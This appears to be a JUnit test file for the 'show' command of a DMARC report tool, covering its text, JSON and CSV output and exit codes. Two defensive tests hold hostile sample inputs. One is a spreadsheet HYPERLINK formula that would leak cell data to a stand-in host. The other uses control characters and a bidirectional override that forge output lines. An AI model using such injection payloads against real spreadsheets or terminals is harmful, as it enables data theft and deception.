// SPDX-License-Identifier: Apache-2.0
package org.dmarcpilot.app.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.io.Writer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.dmarcpilot.report.PayloadFailure;
import org.dmarcpilot.report.aggregate.ExtractedReport;
import org.dmarcpilot.report.aggregate.ReportHandler;
import org.dmarcpilot.report.aggregate.ReportReader;
import org.dmarcpilot.testing.Corpus;
import org.dmarcpilot.testing.ReportFixtures;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/** {@code dmarcpilot show}: the human view, JSON and CSV, and the exit code. */
class ShowCommandTest {

  record Run(int exit, String out, String err) {}

  private static Run show(String... args) {
    StringWriter out = new StringWriter();
    StringWriter err = new StringWriter();
    CommandLine cl = Main.commandLine();
    cl.setOut(new PrintWriter(out, true));
    cl.setErr(new PrintWriter(err, true));
    String[] all = new String[args.length + 1];
    all[0] = "show";
    System.arraycopy(args, 0, all, 1, args.length);
    int exit = cl.execute(all);
    return new Run(exit, out.toString(), err.toString());
  }

  private static Path own(Path dir, String resource) throws Exception {
    Path p = dir.resolve(resource.substring(resource.lastIndexOf('/') + 1));
    Files.write(p, ReportFixtures.resource(resource));
    return p;
  }

  @Test
  void text_headerPolicyRowsTotalsIssues(@TempDir Path dir) throws Exception {
    Path full = own(dir, "valid/rfc9990-full.xml");
    Path upper = own(dir, "deviant/upper-case-words.xml");

    Run run = show(full.toString(), upper.toString());

    assertThat(run.exit()).isZero();
    assertThat(run.err()).isEmpty();
    assertThat(run.out())
        .contains("Report rfc9990-full-0001@example.net from Example Receiver about example.com")
        .contains(
            "  reporter   Example Receiver <dmarc-reports@example.net>, https://example.net/dmarc")
        .contains("  period     2023-11-14 22:13:20 to 2023-11-15 22:13:19 UTC (1 day)")
        .contains("  schema     RFC 9990 (urn:ietf:params:xml:ns:dmarc-2.0), version 1.0")
        .contains("  generator  DMARC Pilot test data 1.0")
        .contains("  error      one DNS lookup timed out (reported by Example Receiver)")
        .contains(
            "    p=reject           mail from example.com that fails DMARC: refuse during the SMTP"
                + " transaction")
        .contains("    np=reject          subdomains that do not exist (NXDOMAIN, RFC 9989):")
        .contains(
            "    adkim=s            DKIM alignment strict: the d= domain must equal the From domain")
        .contains(
            "    fo=1:d             failure reports (ruf) when any mechanism fails; when a DKIM signature fails")
        .contains("    testing=y          t=y, testing mode")
        .contains(
            "    discovery=treewalk the reporter found the policy by the DNS tree walk (RFC 9989)")
        .containsPattern(
            "\n  #  source IP     count  disposition  DMARC  DKIM  SPF   header_from  DKIM results"
                + " \\(d=/s=\\) +SPF results \\(MAIL FROM\\) +override\n")
        .containsPattern(
            "\n  1  192\\.0\\.2\\.10       40  pass         pass   pass  pass  example\\.com "
                + " example\\.com/s2024 pass\\* +bounce\\.example\\.com pass\\*")
        .containsPattern(
            "\n  2  2001:db8::25      2  quarantine   fail   fail  fail  example\\.com "
                + " mail\\.example\\.org/sel fail +example\\.org softfail +policy_test_mode: t=y:"
                + " reject applied as quarantine")
        .contains("  Totals    42 messages in 2 rows from 2 source IPs")
        .contains(
            "            DMARC pass 40 (95.2 %)   DKIM aligned 40 (95.2 %)   SPF aligned 40 (95.2 %)")
        .contains("            disposition: quarantine 2, pass 40")
        .contains("  Issues (10): what the reader repaired or skipped")
        .contains("    line 4, column 54: value \"R\" in <adkim> is not in lower case; read as r")
        .endsWith("2 reports with 46 messages from 2 inputs\n");
  }

  @Test
  void text_reporterVerdictDiffers_named() {
    Path zoho =
        Corpus.require(
            "parsedmarc-samples/historical/aggregate/zoho.com!example.com!1581753600!1581840000.xml");

    Run run = show(zoho.toString());

    assertThat(run.out())
        .contains(
            "  row 2: the reporter says dkim=fail, recomputed pass (example.com aligns with"
                + " example.com)\n")
        .contains(
            "            the reporter's verdicts differ in 8 rows (9 messages); by its own account"
                + " DMARC passed for 0 (0.0 %)");
  }

  @Test
  void failures_namedAndExitOne_othersStillShown(@TempDir Path dir) throws Exception {
    own(dir, "valid/rfc7489-plain.xml");
    Files.writeString(dir.resolve("notes.txt"), "hello");
    Files.write(dir.resolve("empty.xml"), new byte[0]);

    Run text = show(dir.toString(), dir.resolve("missing.xml").toString());

    assertThat(text.exit()).isEqualTo(1);
    assertThat(text.out())
        .contains("Report 7489-plain-1 from example.net about example.com")
        .contains("NOT READ  " + dir.resolve("empty.xml") + ": empty input (0 bytes)")
        .contains(
            "NOT READ  "
                + dir.resolve("notes.txt")
                + ": not a report: neither XML, gzip, zip nor an e-mail message; it begins with"
                + " \"hello\"")
        .contains("NOT READ  " + dir.resolve("missing.xml") + ": no such file or directory")
        .endsWith("1 report with 3 messages from 4 inputs; 3 payloads not read\n");

    Run json = show("--json", dir.toString());
    assertThat(json.exit()).isEqualTo(1);
    assertThat(json.err())
        .contains("not read: " + dir.resolve("empty.xml") + ": empty input (0 bytes)");
    assertThat(new ObjectMapper().readTree(json.out())).hasSize(1);
  }

  @Test
  void json_roundTripsTheNumbers() throws Exception {
    Path folder = Corpus.require("parsedmarc-samples/aggregate");
    Path big = Corpus.require("opendmarc-testfiles/aggregate-reports");

    Run run = show("--json", folder.toString(), big.toString());
    JsonNode rows = new ObjectMapper().readTree(run.out());

    Map<String, Long> jsonTotals = new HashMap<>();
    for (JsonNode row : rows) {
      assertThat(row.get("count").isIntegralNumber()).isTrue();
      assertThat(row.get("begin").isIntegralNumber()).isTrue();
      jsonTotals.merge(
          row.get("input").asText()
              + "|"
              + row.get("report_id").asText()
              + "|"
              + row.get("begin").asLong(),
          row.get("count").asLong(),
          Long::sum);
    }
    Map<String, Long> modelTotals = new HashMap<>();
    ReportReader reader = new ReportReader();
    for (Path dir : List.of(folder, big)) {
      for (Path file : ReportReader.inputs(dir)) {
        try (var in = Files.newInputStream(file)) {
          reader.read(
              in,
              file.toString(),
              new ReportHandler() {
                @Override
                public void report(ExtractedReport r) {
                  modelTotals.put(
                      file
                          + "|"
                          + r.report().metadata().reportId()
                          + "|"
                          + r.report().metadata().begin().getEpochSecond(),
                      r.report().messageCount());
                }

                @Override
                public void failure(PayloadFailure failure) {}
              });
        }
      }
    }
    assertThat(jsonTotals).isEqualTo(modelTotals).hasSize(22);
    // parsedmarc: the large report, 16 one-record and 2 two-record reports; OpenDMARC: 3 reports
    assertThat(rows.size()).isEqualTo(2286 + 16 + 2 * 2 + 50 + 754 + 254);
  }

  @Test
  void json_largeCountExact(@TempDir Path dir) throws Exception {
    Path f = own(dir, "deviant/bad-counts.xml");

    JsonNode rows = new ObjectMapper().readTree(show("--json", f.toString()).out());

    assertThat(rows.get(1).get("count").asLong()).isEqualTo(9223372036854775000L);
    assertThat(rows.get(1).get("count").toString()).isEqualTo("9223372036854775000");
  }

  @Test
  void csv_sameColumnsAndRowsAsJson(@TempDir Path dir) throws Exception {
    Path f = own(dir, "valid/rfc7489-plain.xml");
    Path g = own(dir, "deviant/no-records.xml");

    Run csv = show("--csv", f.toString(), g.toString());
    JsonNode json = new ObjectMapper().readTree(show("--json", f.toString(), g.toString()).out());

    List<String> lines = csv.out().lines().toList();
    assertThat(lines.get(0)).isEqualTo(String.join(",", ShowRows.columns()));
    List<String> names = new ArrayList<>();
    json.get(0).fieldNames().forEachRemaining(names::add);
    assertThat(names).isEqualTo(ShowRows.columns());
    assertThat(lines).hasSize(1 + json.size()).hasSize(3);
    assertThat(csv.out()).contains("\r\n");
    String row = lines.get(1);
    assertThat(row)
        .contains(",forwarded: list.example.org;sampled_out,")
        .contains(",list.example.org,") // envelope_from
        // list.example.org does not align with example.com: DMARC fails although SPF passed
        .contains(",mx.example.org;list.example.org,helo;mfrom,pass;pass,false,false,fail,false");
    assertThat(json.get(1).get("row").isNull()).isTrue(); // the report without records
    assertThat(json.get(1).get("report_issues").get(0).asText())
        .isEqualTo("line 5, column 1: the report has no records");
  }

  @Test
  void csv_quoting() {
    assertThat(ShowRows.Csv.quote("plain")).isEqualTo("plain");
    assertThat(ShowRows.Csv.quote("a,b")).isEqualTo("\"a,b\"");
    assertThat(ShowRows.Csv.quote("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
    assertThat(ShowRows.Csv.quote("two\nlines")).isEqualTo("\"two\nlines\"");
    assertThat(ShowRows.Csv.quote(" padded")).isEqualTo("\" padded\"");
  }

  @Test
  void csv_textASpreadsheetWouldRun_getsAnApostrophe_asTheExportDoes() {
    // a hostile report's org_name or human_result, opened in a spreadsheet
    assertThat(ShowRows.Csv.quote("=HYPERLINK(\"http://x.example/?\"&A1,\"x\")"))
        .isEqualTo("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"x\"\")\"");
    assertThat(ShowRows.Csv.quote("@SUM(A1)")).isEqualTo("\"'@SUM(A1)\"");
    assertThat(ShowRows.Csv.quote("+1")).isEqualTo("\"'+1\"");
    assertThat(ShowRows.Csv.quote("\tcmd")).isEqualTo("\"'\tcmd\"");
    assertThat(ShowRows.Csv.quote("-5")).isEqualTo("-5");
    assertThat(ShowRows.Csv.quote("a=b")).isEqualTo("a=b");
  }

  @Test
  void mbox_messagesShownWithProvenance(@TempDir Path dir) throws Exception {
    String msg =
        "From: r@example.net\r\nMessage-ID: <m1@example.net>\r\nContent-Type: text/xml\r\n\r\n"
            + ReportFixtures.report("MB", 1, 3);
    Path mbox =
        Files.writeString(
            dir.resolve("reports.mbox"), "From r@example.net Mon Jan  4 00:00:00 2021\n" + msg);

    Run run = show(mbox.toString());

    assertThat(run.exit()).isZero();
    assertThat(run.out()).contains("  source     " + mbox + ", message 1 <m1@example.net>, part 1");
  }

  /**
   * A named pipe given by name made {@code show} wait for a writer for ever, and {@code /dev/zero}
   * was read without end; in a folder both were skipped without a word, as were links and folders
   * that could not be read. Each is now named, as {@code ingest} names it, and never opened.
   */
  @Test
  @Timeout(value = 60, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
  void specialFiles_namedNeverOpened_theOthersShown(@TempDir Path dir) throws Exception {
    Path in = Files.createDirectory(dir.resolve("in"));
    own(in, "valid/rfc7489-plain.xml");
    Path fifo = in.resolve("pipe.xml");
    assumeTrue(mkfifo(fifo), "mkfifo is not available");
    Path zero = Path.of("/dev/zero");
    assumeTrue(Files.exists(zero), "no /dev/zero");
    Path linkedZero = Files.createSymbolicLink(in.resolve("zero.xml"), zero);
    Path up = Files.createSymbolicLink(in.resolve("up"), Path.of(".."));
    Path gone = Files.createSymbolicLink(in.resolve("gone.xml"), dir.resolve("nowhere"));

    Run run = show(in.toString(), fifo.toString(), zero.toString(), up.toString());

    assertThat(run.exit()).isEqualTo(1);
    assertThat(run.out())
        .contains("Report 7489-plain-1 from example.net about example.com")
        .contains("NOT READ  " + fifo + ": cannot be read: not a regular file")
        .contains("NOT READ  " + linkedZero + ": cannot be read: not a regular file")
        .contains("NOT READ  " + zero + ": cannot be read: not a regular file")
        .contains("NOT READ  " + up + ": cannot be read: a symbolic link to a folder")
        .contains("NOT READ  " + gone + ": cannot be read: a symbolic link to nothing")
        .endsWith("1 report with 3 messages from 8 inputs; 7 payloads not read\n");
  }

  /**
   * File names and report text reach the terminal: a newline in either could forge a line of the
   * output ("NOT READ ..."), an escape sequence could drive the terminal, a bidirectional override
   * could reverse what follows. They are shown as visible escapes.
   */
  @Test
  void text_controlCharactersInNamesAndReports_shownEscaped(@TempDir Path dir) throws Exception {
    String report =
        ReportFixtures.report("R", 1, 3)
            .replaceFirst(
                "<org_name>[^<]*</org_name>",
                "<org_name>evil&#10;NOT READ  forged&#x202e;txt.exe</org_name>");
    Files.writeString(dir.resolve("report\nNOT READ  forged.xml"), report);
    Files.writeString(dir.resolve("junk\u001b[2J.xml"), "junk");

    Run run = show(dir.toString());

    assertThat(run.out())
        .contains("evil\\u000aNOT READ  forged\\u202etxt.exe")
        .contains("report\\u000aNOT READ  forged.xml")
        .contains("junk\\u001b[2J.xml")
        .doesNotContain("\nNOT READ  forged")
        .doesNotContain("\u001b")
        .doesNotContain("\u202e");
  }

  @Test
  void outputThatFails_exitCodeSaysSo(@TempDir Path dir) throws Exception {
    Path f = own(dir, "valid/rfc7489-plain.xml");
    for (String format : List.of("--csv", "--json", "--text")) {
      StringWriter err = new StringWriter();
      Writer full =
          new Writer() {
            @Override
            public void write(char[] c, int off, int len) throws IOException {
              throw new IOException("No space left on device");
            }

            @Override
            public void flush() {}

            @Override
            public void close() {}
          };
      CommandLine cl = Main.commandLine();
      cl.setOut(new PrintWriter(full));
      cl.setErr(new PrintWriter(err, true));
      List<String> args = new ArrayList<>(List.of("show", f.toString()));
      if (!format.equals("--text")) {
        args.add(1, format);
      }

      int exit = cl.execute(args.toArray(String[]::new));

      assertThat(exit).as(format).isEqualTo(2);
      assertThat(err.toString()).as(format).contains("cannot write to standard output");
    }
  }

  private static boolean mkfifo(Path p) throws Exception {
    try {
      Process proc = new ProcessBuilder("mkfifo", p.toString()).start();
      return proc.waitFor(10, TimeUnit.SECONDS) && proc.exitValue() == 0;
    } catch (IOException e) {
      return false;
    }
  }
}
